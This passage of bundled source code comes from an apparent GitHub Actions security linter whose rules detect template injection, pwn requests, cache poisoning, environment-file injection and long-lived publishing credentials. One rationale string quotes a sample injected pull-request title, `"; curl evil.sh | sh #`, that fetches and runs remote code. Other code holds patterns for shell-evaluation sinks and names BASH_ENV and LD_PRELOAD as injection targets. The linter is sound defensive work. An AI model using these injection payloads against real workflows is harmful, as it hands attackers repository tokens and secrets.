      location: nodeLocation(doc, off.keyNode),
      message: `${publisher.action} with \`${publisher.disablesOidc}: false\` publishes with a stored ${publisher.registry} credential; use ${registry.instead}`
    });
  if (publisher.credentialEnv) {
    for (const entry2 of effectiveEnv(step).values()) {
      if (publisher.credentialEnv.test(entry2.name) && secretName(entry2))
        hits.push({
          location: nodeLocation(entry2 === step.env.get(entry2.name) ? doc : step.job?.workflow ?? doc, entry2.keyNode),
          message: `${publisher.action} publishes to ${publisher.registry} with a long-lived token (${entry2.name} = secrets.${secretName(entry2)}); use ${registry.instead}`
        });
    }
  }
  return hits;
}
function callerGrants(job) {
  return tokenGrant(job).source === "default" && job.workflow.triggers.some((trigger) => trigger.event === "workflow_call");
}
function publishingHits(model) {
  const hits = [];
  for (const step of walkOf(model).steps) {
    const doc = stepDoc(step);
    const owner = stepOwner(step);
    hits.push(...actionInputs(step));
    for (const item of step.env.values()) {
      const name = secretName(item);
      if (!name) continue;
      if (/^AWS_SECRET_ACCESS_KEY$/i.test(item.name))
        hits.push({
          location: nodeLocation(doc, item.keyNode),
          message: `step ${step.index + 1} of ${owner} puts a long-lived AWS secret key (secrets.${name}) in the environment; use aws-actions/configure-aws-credentials with role-to-assume (OIDC)`
        });
      if (/^(GOOGLE_CREDENTIALS|GCP_SA_KEY|GOOGLE_APPLICATION_CREDENTIALS_JSON|GCLOUD_SERVICE_KEY)$/i.test(item.name))
        hits.push({
          location: nodeLocation(doc, item.keyNode),
          message: `step ${step.index + 1} of ${owner} puts a Google Cloud service account key (secrets.${name}) in the environment; use Workload Identity Federation`
        });
    }
    if (!step.run) continue;
    const run = step.run;
    const commands2 = publishCommands(run.value);
    if (commands2.length === 0) continue;
    const env = effectiveEnv(step);
    for (const command of commands2) {
      if (registryRedirected(step, command.registry)) continue;
      const registry = REGISTRIES[command.registry];
      const publishes2 = `${owner} publishes to ${command.registry} (\`${command.tool}\`)`;
      const expanded = new Set([...command.text.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((m) => m[1].toUpperCase()));
      const token = [...env.values()].find((item) => (registry.tokenEnv.test(item.name) || expanded.has(item.name.toUpperCase())) && secretName(item));
      const inline = [...command.text.matchAll(SECRET_REF_ALL)].map((m) => m[1]).find((name) => name.toUpperCase() !== "GITHUB_TOKEN");
      if (token) {
        const tokenDoc = step.env.get(token.name) === token ? doc : step.job?.workflow ?? doc;
        hits.push({
          location: nodeLocation(tokenDoc, token.keyNode),
          message: `${publishes2} with a long-lived token (${token.name} = secrets.${secretName(token)}); use ${registry.instead}`
        });
      } else if (inline) {
        hits.push({
          location: strLocation(doc, run, command.start, command.end),
          message: `${publishes2} with a long-lived token (secrets.${inline}) on the command line; use ${registry.instead}`
        });
      } else if (step.job && !tokenGrant(step.job).idToken && !callerGrants(step.job)) {
        hits.push({
          location: strLocation(doc, run, command.start, command.end),
          message: `${publishes2} without \`id-token: write\`, so with a stored credential (a token file or a variable set elsewhere); use ${registry.instead}`
        });
      }
    }
  }
  return hits;
}
var useTrustedPublishing = defineWorkflowRule({
  meta: {
    id: "use-trusted-publishing",
    area: "build",
    severity: "medium",
    title: "Long-lived publishing or cloud credential where OIDC is available",
    rationale: "A registry token or cloud key stored as a secret works from anywhere until someone rotates it; a leak (a log, a compromised step, a pwn request) keeps working. Trusted publishing and workload identity federation issue a short-lived credential bound to this repository and workflow instead.",
    remediation: "Configure trusted publishing on the registry (or a workload identity provider on the cloud), grant the job `id-token: write`, remove the secret, and revoke the token.",
    references: ["SSC-28", "OSPS-BR-07.02", "zizmor: use-trusted-publishing"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const seen = /* @__PURE__ */ new Set();
    for (const hit of publishingHits(model)) {
      const key2 = `${hit.location.path}:${hit.location.startLine}:${hit.location.startColumn}`;
      if (seen.has(key2)) continue;
      seen.add(key2);
      results.push({ status: "fail", message: hit.message, location: hit.location });
    }
    return results;
  }
});

// src/rules/build/template-injection-support.ts
function injectionGrade(taint, workflow, job, model) {
  if (!workflow || !job) {
    if (taint.level === "arbitrary") return { grade: "high", why: "in an action that any workflow may call" };
    return { grade: "low", why: "from an action input: safe only if every caller passes trusted values" };
  }
  let privileged = privilegedUntrustedEvents(workflow, model);
  const events = eventNames(workflow);
  const reusable = events.has("workflow_call");
  const carriers = eventsCarrying(taint.origin);
  let outsiders = forkReachable(workflow);
  if (carriers && !reusable && events.size > 0) {
    const relevant = [...events].filter((event) => carriers.has(event));
    if (relevant.length === 0) return { grade: "info", why: `${taint.origin} is empty on ${[...events].join(", ")}` };
    privileged = privileged.filter((event) => carriers.has(event));
    outsiders = relevant.some((event) => FORK_REACHABLE_EVENTS.has(event));
  }
  if (taint.level === "arbitrary") {
    if (privileged.length > 0) {
      const reach = reachOf(job);
      return reach.level === "write" || reach.level === "default" ? { grade: "critical", why: `on ${privileged.join(", ")}, with ${reach.text}` } : { grade: "high", why: `on ${privileged.join(", ")} (runs in the base repository's context)` };
    }
    if (reusable) return { grade: "high", why: "in a reusable workflow, with its caller's event and privileges" };
    if (outsiders) return { grade: "medium", why: "on events from outsiders that run with a read-only token and no secrets" };
    if (/commit|message|author|committer|display_title/.test(taint.origin))
      return { grade: "medium", why: "commit messages and authors come from merged contributions" };
    return { grade: "low", why: "the workflow is not triggered by outsiders" };
  }
  if (taint.level === "structured") {
    if (privileged.length > 0 || reusable) return { grade: "medium", why: "attacker-influenced but constrained, or needs write access to set" };
    if (outsiders) return { grade: "low", why: "attacker-influenced but constrained" };
    return { grade: "info", why: "set only by users with write access (branch and tag names can still hold shell syntax)" };
  }
  if (taint.level === "dynamic")
    return {
      grade: "low",
      why: taint.origin.startsWith("github.") ? "(an event field without capability data: check whether outsiders can set it)" : "(a matrix value computed at run time)"
    };
  if (reusable) return { grade: "low", why: "a reusable-workflow input: safe only if every caller passes trusted values" };
  return { grade: "info", why: "a workflow_dispatch input: only users with write access can set it" };
}
function taintConfidence(taint) {
  if (taint.level === "arbitrary") return taint.via.some((hop) => /(^|[\s(])(steps|needs)\.|outputs/.test(hop)) ? "medium" : "high";
  if (taint.level === "structured") return "medium";
  return "low";
}
function taintLocations(taint, workflow, job) {
  if (!workflow) return [];
  const out = [];
  if (taint.level === "arbitrary" || taint.level === "structured") {
    const carriers = eventsCarrying(taint.origin);
    const events = [...eventNames(workflow)].filter(
      (event) => (PRIVILEGED_UNTRUSTED_EVENTS.has(event) || FORK_REACHABLE_EVENTS.has(event)) && (!carriers || carriers.has(event))
    );
    out.push(...triggerLocations(workflow, events, `an outsider can set ${taint.origin}`));
  }
  for (const hop of taint.via) {
    const step = /^steps\.([^.]+)\.outputs\.(.+)$/.exec(hop);
    if (step && job) {
      const writer = job.steps.find((candidate) => candidate.id?.value === step[1]);
      if (writer) out.push(related(stepLocation(writer), `step ${step[1]} sets output ${step[2]} from it`));
      continue;
    }
    const upstream = /^needs\.([^.]+)\.outputs\.(.+)$/.exec(hop);
    const upstreamJob = upstream ? workflow.jobsById.get(upstream[1]) : void 0;
    if (upstream && upstreamJob)
      out.push(
        related(
          nodeLocation(workflow, upstreamJob.outputs.get(upstream[2])?.keyNode ?? upstreamJob.keyNode),
          `job ${upstream[1]} passes it on as output ${upstream[2]}`
        )
      );
  }
  return out;
}

// src/rules/build/template-injection.ts
var CODE_INPUTS = byAction(CODE_INPUT_ACTIONS);
function sinksOf(step) {
  const sinks = [];
  if (step.run && step.run.expressions.length > 0) sinks.push({ str: step.run, step, label: "run", language: "shell" });
  const code = step.uses ? CODE_INPUTS.get(step.uses.name) : void 0;
  if (code) {
    for (const [name, entry2] of step.with) {
      if (code.inputs.includes(name.toLowerCase()) && entry2.value && entry2.value.expressions.length > 0) {
        sinks.push({ str: entry2.value, step, label: `${step.uses.name} ${name}`, language: code.language });
      }
    }
  }
  return sinks;
}
function gatedGrade(grade2, gates, taint) {
  const own = gates.find((gate) => gate.kind === "author-association" && gate.subject && taint.origin.startsWith(`${gate.subject}.`));
  if (own) return { severity: "info", note: `; info because ${own.note} and the text is theirs` };
  return { severity: applyGates(grade2, gates), note: gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : "" };
}
function describeTaint(taint) {
  const via = taint.via.length > 0 ? ` (via ${taint.via.join(" \u2192 ")})` : "";
  return `${taint.origin}${via}`;
}
function fixFor2(expression, taint, sink) {
  const direct = /^env\.([A-Za-z_][A-Za-z0-9_]*)$/i.exec(expression.body.trim());
  if (direct) {
    return `${sink.label.replace(/^.*\s(\S+)$/, "$1")}: \u2026 ${envReference(direct[1], sink.step.effectiveShell, sink.language)} \u2026   # instead of \${{ ${expression.body.trim()} }}`;
  }
  const path14 = taint.via.length > 0 ? taint.via[taint.via.length - 1] ?? taint.origin : taint.origin;
  const name = envVarName(/^(steps|needs|env)\./.test(path14) || /^github\.|^inputs\.|^matrix\./.test(path14) ? path14 : expression.body.trim());
  const text = `\${{ ${expression.body.trim()} }}`;
  const reference = envReference(name, sink.step.effectiveShell, sink.language);
  return [`env:`, `  ${name}: ${text}`, `${sink.label.replace(/^.*\s(\S+)$/, "$1")}: \u2026 ${reference} \u2026   # instead of ${text}`].join("\n");
}
var EVALUATING = /^(?:eval\b|(?:ba|z|da|k)?sh\s+(?:-\w+\s+)*-c\b|pwsh\s+(?:-\w+\s+)*-c(?:ommand)?\b|powershell\s+(?:-\w+\s+)*-c(?:ommand)?\b|Invoke-Expression\b|iex\b|(?:source|\.)\s+<\()/i;
function shellEvaluations(model) {
  const tracker = trackerFor(model);
  const out = [];
  const report = (step, taint, location, text, where) => {
    const job = step.job;
    const { grade: grade2, why } = injectionGrade(taint, job?.workflow ?? null, job, model);
    out.push({
      status: "fail",
      severity: job ? gatedGrade(grade2, gatesFor(job, step), taint).severity : grade2,
      message: `${stepLabel(step)}${where}: \`${text.length > 60 ? `${text.slice(0, 57)}...` : text}\` evaluates ${describeTaint(taint)} as code (${why.replace(/^\((.*)\)$/, "$1")})`,
      ...location ? { location } : {},
      confidence: taintConfidence(taint),
      relatedLocations: [
        ...where ? [related(stepLocation(step), `${stepLabel(step)} runs the script`)] : [],
        ...taintLocations(taint, job?.workflow ?? null, job)
      ],
      fix: 'Do not eval untrusted data: pass it as an argument ("$VAR") to a fixed command.'
    });
  };
  const steps = [];
  for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps);
  for (const action of model.actions) steps.push(...action.runs?.steps ?? []);
  for (const step of steps) {
    if (!step.run) continue;
    const site = { job: step.job, step, action: step.action };
    for (const command of commands(step.run.value)) {
      if (!EVALUATING.test(command.text)) continue;
      const taint = tracker.shellTaint(step, step.run.value, command.start, command.text, site);
      if (taint) report(step, taint, strLocation(stepDoc(step), step.run, command.start, command.end), command.text, "");
    }
  }
  for (const script of model.scripts.values()) {
    const evaluating = commands(script.text).filter((command) => EVALUATING.test(command.text));
    for (const step of script.callers) {
      for (const command of evaluating) {
        const taint = tracker.shellTaint(step, script.text, command.start, command.text, { job: step.job, step, action: step.action });
        if (taint) report(step, taint, scriptLocation(script, command.start, command.end), command.text, ` (through ${script.path})`);
      }
    }
  }
  return out;
}
var templateInjection = defineWorkflowRule({
  meta: {
    id: "template-injection",
    area: "build",
    severity: "high",
    title: "Attacker-controlled text expanded into code",
    rationale: "`${{ }}` is substituted into the script before it runs, so a pull request title like `\"; curl evil.sh | sh #` becomes code with the job's token and secrets. Passing the value through an environment variable makes it data.",
    remediation: 'Move the expression into `env:` and use the variable (`"$PR_TITLE"`, `process.env.PR_TITLE`) in the script.',
    references: ["zizmor: template-injection", "https://docs.github.com/en/actions/concepts/security/script-injections", "CWE-94"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    eachStep(model, (doc, job, step) => {
      for (const sink of sinksOf(step)) {
        for (const expression of sink.str.expressions) {
          const taint = tracker.expressionTaint(expression, { job, step, action: doc.kind === "action" ? doc : null });
          if (!taint) continue;
          const { grade: grade2, why } = injectionGrade(taint, doc.kind === "workflow" ? doc : null, job, model);
          const gates = job ? gatesFor(job, step) : [];
          const { severity, note: gated } = gatedGrade(grade2, gates, taint);
          results.push({
            status: "fail",
            severity,
            message: `${stepLabel(step)}: \`\${{ ${expression.body.trim()} }}\` expands ${taint.level === "arbitrary" ? "attacker-controlled text" : taint.level === "input" ? "an input" : "partly attacker-influenced text"} from ${describeTaint(taint)} into \`${sink.label}\` (${why.replace(/^\((.*)\)$/, "$1")})${gated}`,
            location: expressionLocation(doc, expression),
            confidence: taintConfidence(taint),
            relatedLocations: taintLocations(taint, doc.kind === "workflow" ? doc : null, job),
            fix: fixFor2(expression, taint, sink)
          });
        }
      }
    });
    results.push(...shellEvaluations(model));
    return dedupeResults(results);
  }
});

// src/rules/build/pwn-request-support.ts
function checkoutLocation(workflow, checkout) {
  if (checkout.str) return strLocation(workflow, checkout.str, checkout.start, checkout.end);
  return nodeLocation(workflow, checkout.step.uses?.node ?? checkout.step.node);
}
function executionLocation(workflow, execution) {
  return execution.str ? strLocation(workflow, execution.str, execution.start, execution.end) : nodeLocation(workflow, execution.step.uses?.node ?? execution.step.node);
}
function pathLocations(workflow, events, executions = []) {
  return [
    ...triggerLocations(workflow, events, "runs with the base repository's token and secrets on an outsider's event"),
    ...executions.slice(0, 3).map((execution) => related(executionLocation(workflow, execution), `${stepLabel(execution.step)} runs ${execution.what}`))
  ];
}
function checkoutConfidence(workflow, model, events, checkout) {
  if (checkout.kind === "artifact") return "medium";
  if (events.some((event) => event !== "workflow_run")) return "high";
  return upstreamSeenReachable(workflow, model) ? "high" : "medium";
}
function upstreamSeenReachable(workflow, model) {
  return workflow.triggers.some(
    (trigger) => trigger.event === "workflow_run" && (trigger.filters.get("workflows") ?? []).some(
      (name) => model.workflows.some(
        (upstream) => (upstream.name?.value ?? upstream.path.replace(/^.*\//, "")) === name && upstream.triggers.some((t) => FORK_REACHABLE_EVENTS.has(t.event))
      )
    )
  );
}

// src/rules/build/dangerous-triggers.ts
var DANGEROUS = /* @__PURE__ */ new Set(["pull_request_target", "workflow_run"]);
var dangerousTriggers = defineWorkflowRule({
  meta: {
    id: "dangerous-triggers",
    area: "build",
    severity: "medium",
    title: "Privileged trigger that outsiders can fire",
    rationale: "`pull_request_target` and `workflow_run` run with the base repository's token and secrets on events a fork can cause. They are safe only while the workflow never handles the pull request's code or text.",
    remediation: "Prefer `pull_request`. Keep `pull_request_target` / `workflow_run` jobs free of PR code, with `permissions: {}` or the minimum, and gate anything sensitive behind an environment with reviewers.",
    references: [
      "zizmor: dangerous-triggers",
      "https://docs.github.com/en/actions/reference/security/secure-use#mitigating-the-risks-of-untrusted-code-checkout"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    for (const workflow of model.workflows) {
      for (const trigger of workflow.triggers) {
        if (!DANGEROUS.has(trigger.event)) continue;
        let grade2 = "info";
        let why = "no job reaches write scopes or secrets";
        if (trigger.event === "workflow_run" && !workflowRunReachable(trigger.filters.get("workflows") ?? [], model)) {
          results.push({
            status: "fail",
            severity: "info",
            message: `workflow_run after ${(trigger.filters.get("workflows") ?? []).join(", ")}, which forks cannot trigger`,
            location: nodeLocation(workflow, trigger.node)
          });
          continue;
        }
        const jobs = workflow.jobs.filter((job) => !blocksForks(gatesFor(job)));
        let decided = false;
        let evidence = [];
        const consider = (candidate, reason, gates, places) => {
          const gated = applyGates(candidate, gates);
          if (decided && maxGrade(grade2, gated) === grade2) return;
          decided = true;
          grade2 = gated;
          evidence = places;
          why = `${reason}${gated !== candidate ? `; lowered because ${gates.map((gate) => gate.note).join(", ")}` : ""}`;
        };
        for (const job of jobs) {
          const gates = gatesFor(job);
          const checkouts = untrustedCheckouts(job, tracker);
          const run = checkouts.map((checkout) => ({ checkout, executions: executionsAfter(job, checkout.step, checkout.path) })).find((entry2) => entry2.executions.length > 0);
          if (run) {
            const places = [
              related(checkoutLocation(workflow, run.checkout), `${stepLabel(run.checkout.step)} ${run.checkout.what}`),
              related(executionLocation(workflow, run.executions[0]), `${stepLabel(run.executions[0].step)} runs ${run.executions[0].what}`)
            ];
            consider("high", `job ${job.id} checks out and runs the pull request's code (see pwn-request)`, gates, places);
            continue;
          }
          if (checkouts.length > 0) {
            consider("medium", `job ${job.id} checks out the pull request's code (see untrusted-checkout)`, gates, [
              related(checkoutLocation(workflow, checkouts[0]), `${stepLabel(checkouts[0].step)} ${checkouts[0].what}`)
            ]);
            continue;
          }
          const reach = reachOf(job);
          if (reach.level === "write" || reach.level === "default")
            consider(
              "low",
              `job ${job.id} has ${reach.text}, but does not check out the pull request`,
              [],
              [related(nodeLocation(workflow, job.keyNode), `job ${job.id} has ${reach.text}`)]
            );
        }
        if (jobs.length === 0 && workflow.jobs.length > 0) why = "every job requires the pull request to come from this repository";
        results.push({
          status: "fail",
          severity: grade2,
          message: `${trigger.event} runs in the base repository's context on events from forks: ${why}`,
          location: nodeLocation(workflow, trigger.node),
          // workflow_run from an upstream workflow not in this repository is assumed reachable from forks.
          confidence: trigger.event === "workflow_run" && !upstreamSeenReachable(workflow, model) ? "medium" : "high",
          ...evidence.length > 0 ? { relatedLocations: evidence } : {}
        });
      }
    }
    return results;
  }
});

// src/rules/build/untrusted-checkout.ts
var untrustedCheckout = defineWorkflowRule({
  meta: {
    id: "untrusted-checkout",
    area: "build",
    severity: "medium",
    title: "Pull request code checked out in a privileged workflow",
    rationale: "The pull request's files land in a workspace that runs with the base repository's token and secrets. Any tool that later reads them (a linter config, `.npmrc`, a git hook, an action from `./`) can run the attacker's code.",
    remediation: "Check out the pull request only in `pull_request` workflows. If the privileged workflow must read PR files, check them out into a separate `path:`, never execute or source anything from it, and set `persist-credentials: false`.",
    references: [
      "Scorecard: Dangerous-Workflow (untrusted checkout)",
      "poutine: untrusted_checkout_exec",
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    for (const workflow of model.workflows) {
      const events = privilegedUntrustedEvents(workflow, model);
      if (events.length === 0) continue;
      for (const job of workflow.jobs) {
        for (const checkout of untrustedCheckouts(job, tracker)) {
          if (executionsAfter(job, checkout.step, checkout.path).length > 0) continue;
          const reach = reachOf(job);
          const base = reach.level === "write" || reach.level === "default" ? "medium" : "low";
          const gates = gatesFor(job, checkout.step);
          const isolated = checkout.path ? ` into ${checkout.path}/` : "";
          results.push({
            status: "fail",
            severity: applyGates(base, gates),
            message: `${stepLabel(checkout.step)} ${checkout.what}${isolated} on ${events.join("/")}, in a job with ${reach.text}; no step visibly runs it, but any tool reading those files can${gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : ""}`,
            location: checkoutLocation(workflow, checkout),
            confidence: checkoutConfidence(workflow, model, events, checkout),
            relatedLocations: pathLocations(workflow, events)
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/pwn-request.ts
function executionLine(workflow, execution) {
  return executionLocation(workflow, execution).startLine;
}
function reachGrade(job) {
  const reach = reachOf(job);
  const grant = tokenGrant(job);
  if (reach.level === "write" || grant.idToken) {
    return {
      grade: "critical",
      reach: `${reach.text}${grant.idToken && !grant.writeAll ? " (including id-token: write, so cloud and registry identities)" : ""}`
    };
  }
  if (reach.level === "default") return { grade: "high", reach: `${reach.text}; critical if that default is read/write` };
  return { grade: "medium", reach: `${reach.text}; the runner can still poison the base branch's Actions cache and read the job's data` };
}
var pwnRequest = defineWorkflowRule({
  meta: {
    id: "pwn-request",
    area: "build",
    severity: "critical",
    title: "Untrusted pull request code runs in a privileged workflow",
    rationale: "On `pull_request_target`, `issue_comment` and `workflow_run`, the workflow runs with the base repository's token and secrets. Checking out the pull request and then running its build (npm install, make, a local script) hands those to whoever opened it.",
    remediation: "Run untrusted code only on `pull_request` (no secrets, read-only token). If a privileged step is needed, split it into a `workflow_run` job that never executes PR code, or gate it on a same-repository check or an environment with required reviewers, and grant the job `permissions: {}`.",
    references: [
      "https://securitylab.github.com/resources/github-actions-preventing-pwn-requests/",
      "poutine: untrusted_checkout_exec",
      "Scorecard: Dangerous-Workflow",
      "SLSA Build L3"
    ],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    for (const workflow of model.workflows) {
      const events = privilegedUntrustedEvents(workflow, model);
      if (events.length === 0) continue;
      for (const job of workflow.jobs) {
        const untrusted = untrustedCheckouts(job, tracker);
        for (const checkout of untrusted) {
          const executions = executionsAfter(job, checkout.step, checkout.path).filter(
            (execution) => !runsRestoredBaseFile(job, checkout, untrusted, execution)
          );
          const first = executions[0];
          if (!first) continue;
          const { grade: grade2, reach } = reachGrade(job);
          const gates = gatesFor(job, checkout.step);
          const severity = applyGates(grade2, gates);
          const more = executions.length > 1 ? ` (and ${executions.length - 1} more)` : "";
          const what2 = checkout.kind === "artifact" ? "artifact poisoning" : "pwn request";
          results.push({
            status: "fail",
            severity,
            message: `${what2}: ${events.join("/")} \u2192 ${stepLabel(checkout.step)} ${checkout.what} \u2192 ${stepLabel(first.step)} runs ${first.what} at line ${executionLine(workflow, first)}${more} \u2192 the attacker's code gets ${reach}${gates.length > 0 ? `; lowered because ${gates.map((g) => g.note).join(", ")}` : ""}`,
            location: checkoutLocation(workflow, checkout),
            confidence: checkoutConfidence(workflow, model, events, checkout),
            relatedLocations: pathLocations(workflow, events, executions),
            fix: "permissions: {}   # on this job; and move the build to a `pull_request` workflow, or add `if: github.event.pull_request.head.repo.full_name == github.repository`"
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/cache-poisoning.ts
function cacheWriters(model, elsewhere) {
  const tracker = trackerFor(model);
  const out = new Set(model.workflows.filter((workflow) => runsUntrustedCode(workflow, model, tracker)).map((workflow) => workflow.path));
  for (const path14 of elsewhere) out.add(path14);
  return [...out].sort();
}
function cacheConfidence(cache, publishesItself) {
  const explicit = cache.input !== null || /^actions\/cache(\/restore)?$/.test(cache.what);
  return explicit && publishesItself && !cache.when ? "high" : "medium";
}
var cachePoisoning = defineWorkflowRule({
  meta: {
    id: "cache-poisoning",
    area: "build",
    severity: "medium",
    title: "Cache restored in a release or publishing job",
    rationale: "Caches are shared across workflows of a branch. Code an outsider gets to run in the default branch's scope (a pwn request, an injection) can plant a cache entry that a later release job restores and ships.",
    remediation: "Build releases from a clean state: disable caching in jobs that publish (and in the jobs that build what they publish).",
    references: [
      "zizmor: cache-poisoning",
      "https://adnanthekhan.com/2024/05/06/the-monsters-in-your-build-cache-github-actions-cache-poisoning/",
      "SLSA Build L3 (isolated builds)"
    ],
    access: { token: "none" }
  },
  uses: [cacheWritersFact],
  defaultOptions: {},
  model(model, ctx) {
    const results = [];
    let writers = null;
    for (const workflow of model.workflows) {
      const publishing = workflow.jobs.map((job) => ({ job, evidence: publishingSteps(job) })).filter((entry2) => entry2.evidence.length > 0);
      const atRisk = /* @__PURE__ */ new Map();
      const publishes2 = /* @__PURE__ */ new Map();
      for (const { job, evidence } of publishing) {
        atRisk.set(job, `publishes (${evidence[0].what})`);
        publishes2.set(job, { ...evidence[0], itself: true });
        for (const upstream of ancestors(job)) {
          if (atRisk.has(upstream)) continue;
          atRisk.set(upstream, `builds for job ${job.id}, which publishes (${evidence[0].what})`);
          publishes2.set(upstream, { ...evidence[0], itself: false });
        }
      }
      const trigger = publishing.length === 0 ? publishingTrigger(workflow) : null;
      if (trigger) for (const job of workflow.jobs) atRisk.set(job, `is in a release workflow (it ${trigger})`);
      if (atRisk.size === 0) continue;
      for (const [job, why] of atRisk) {
        for (const cache of cacheRestores(job)) {
          if (!writers) {
            const elsewhere = ctx.fact(cacheWritersFact);
            writers = cacheWriters(model, elsewhere.known ? elsewhere.value : []);
          }
          const via = publishes2.get(job);
          const exposed = writers.filter((path14) => path14 !== workflow.path || privilegedUntrustedEvents(workflow, model).length > 0);
          const severity = exposed.length > 0 ? "high" : cache.when ? "low" : "medium";
          results.push({
            status: "fail",
            severity,
            message: `job ${job.id} ${why} and restores a cache (${cache.what}${cache.when ? `, ${cache.when}` : ""})${exposed.length > 0 ? `; outsiders can already run code in this repository's cache scope through ${exposed.slice(0, 3).join(", ")}${exposed.length > 3 ? ` and ${exposed.length - 3} more` : ""}` : ""}`,
            location: nodeLocation(workflow, cache.input?.node ?? cache.step.uses?.node ?? cache.step.node),
            // A release workflow known by its triggers only: medium, pointing at the triggers.
            confidence: via ? cacheConfidence(cache, via.itself) : "medium",
            relatedLocations: [
              ...via ? [related(stepLocation(via.step), `${stepLabel(via.step)} publishes (${via.what})`)] : triggerLocations(workflow, ["release", "push", "create"], "a release trigger"),
              ...model.workflows.filter((writer) => exposed.slice(0, 3).includes(writer.path)).flatMap(
                (writer) => triggerLocations(writer, privilegedUntrustedEvents(writer, model), "outsiders run code in the default branch's cache scope")
              )
            ],
            fix: cache.fix
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/github-env.ts
var TARGETS = /* @__PURE__ */ new Set(["GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT"]);
function grade(taint, file, step, model) {
  const job = step.job;
  const base = injectionGrade(taint, job?.workflow ?? null, job, model).grade;
  const byFile = file === "GITHUB_OUTPUT" ? lower(base) : base;
  return job ? applyGates(byFile, gatesFor(job, step)) : byFile;
}
function message(file, step, taint, where) {
  const via = taint.via.length > 0 ? ` via ${taint.via.join(" \u2192 ")}` : "";
  const effect = file === "GITHUB_OUTPUT" ? "a newline in it can set other step outputs" : file === "GITHUB_PATH" ? "it can put an attacker-chosen directory first on PATH for every later step" : "a newline in it can set any environment variable (BASH_ENV, NODE_OPTIONS, LD_PRELOAD...) for every later step";
  return `${stepLabel(step)}${where}: writes ${taint.origin}${via} to $${file}; ${effect}`;
}
var githubEnv = defineWorkflowRule({
  meta: {
    id: "github-env",
    area: "build",
    severity: "high",
    title: "Untrusted data written to GITHUB_ENV, GITHUB_PATH or GITHUB_OUTPUT",
    rationale: "The runner reads `$GITHUB_ENV` and `$GITHUB_PATH` line by line: attacker text with a newline defines extra variables such as `BASH_ENV` or `NODE_OPTIONS`, or a PATH entry, and the next step runs the attacker's code with the job's token and secrets.",
    remediation: 'Do not write untrusted text to environment files. Pass it to later steps through `env:` on those steps, or validate it strictly (e.g. `[[ "$X" =~ ^[A-Za-z0-9._-]+$ ]]`) and use a random heredoc delimiter for multi-line values.',
    references: ["zizmor: github-env", "https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#environment-files", "CWE-94"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const tracker = trackerFor(model);
    const results = [];
    const steps = [];
    for (const workflow of model.workflows) for (const job of workflow.jobs) steps.push(...job.steps);
    for (const action of model.actions) steps.push(...action.runs?.steps ?? []);
    for (const step of steps) {
      const run = step.run;
      if (!run) continue;
      const site = { job: step.job, step, action: step.action };
      const doc = step.job ? step.job.workflow : step.action;
      for (const write of envFileWrites(run.value)) {
        if (!TARGETS.has(write.file)) continue;
        const shellTaint = tracker.shellTaint(step, run.value, write.command.start, write.command.text, site);
        if (!shellTaint) continue;
        const location = strLocation(doc, run, write.command.start, write.command.end);
        results.push({
          status: "fail",
          severity: grade(shellTaint, write.file, step, model),
          message: message(write.file, step, shellTaint, ""),
          location,
          fix: write.file === "GITHUB_OUTPUT" ? "Validate the value before writing it, or pass the original expression to the consumer through env:" : "Pass the value to the steps that need it with `env:` instead of $GITHUB_ENV, or validate it first."
        });
      }
    }
    for (const script of model.scripts.values()) {
      const writes = envFileWrites(script.text).filter((write) => TARGETS.has(write.file));
      if (writes.length === 0) continue;
      for (const step of script.callers) {
        const site = { job: step.job, step, action: step.action };
        for (const write of writes) {
          const taint = tracker.shellTaint(step, script.text, write.command.start, write.command.text, site);
          if (!taint) continue;
          results.push({
            status: "fail",
            severity: grade(taint, write.file, step, model),
            message: message(write.file, step, taint, ` (through ${script.path})`),
            location: scriptLocation(script, write.command.start, write.command.end)
          });
        }
      }
    }
    return dedupeResults(results);
  }
});

// src/rules/build/unsound-condition.ts
function isUnsound(condition) {
  const expressions = condition.expressions;
  if (expressions.length === 0) return false;
  if (expressions.length === 1 && expressions[0].valueStart === 0 && expressions[0].valueEnd === condition.value.length) return false;
  return true;
}
function fixFor3(condition) {
  const bodies = condition.expressions.map((expression) => expression.body.trim());
  const rest = condition.value.replace(/\$\{\{[\s\S]*?\}\}/g, "").trim();
  if (bodies.length === 1 && rest === "") return `if: \${{ ${bodies[0]} }}   # no text or newline around it (use |- or a plain scalar)`;
  const joined = condition.value.replace(/\$\{\{\s*([\s\S]*?)\s*\}\}/g, "($1)").replace(/\s+/g, " ").trim();
  return `if: ${joined}   # one expression, without \${{ }} around parts of it`;
}
var unsoundCondition = defineWorkflowRule({
  meta: {
    id: "unsound-condition",
    area: "build",
    severity: "high",
    title: "`if:` condition that is always true",
    rationale: "When an `if:` holds `${{ }}` plus any other text, GitHub evaluates it as a string, and a non-empty string is true: the guard (often a security check) never stops anything.",
    remediation: "Write the condition as one expression: either with no `${{ }}` at all, or with a single `${{ }}` that spans the whole value (use `|-` or a plain scalar, not `|`).",
    references: ["zizmor: unsound-condition", "actionlint: if-cond", "poutine: if_always_true"],
    access: { token: "none" }
  },
  defaultOptions: {},
  model(model) {
    const results = [];
    const check3 = (doc, condition, where) => {
      if (!condition || !isUnsound(condition)) return;
      const trailing = /\n\s*$/.test(condition.value) && condition.expressions.length === 1 ? " (the `|` block keeps a trailing newline)" : "";
      results.push({
        status: "fail",
        message: `${where}: \`if:\` mixes \${{ }} with other text${trailing}, so it is a non-empty string and always true`,
        location: nodeLocation(doc, condition.node),
        fix: fixFor3(condition)
      });
    };
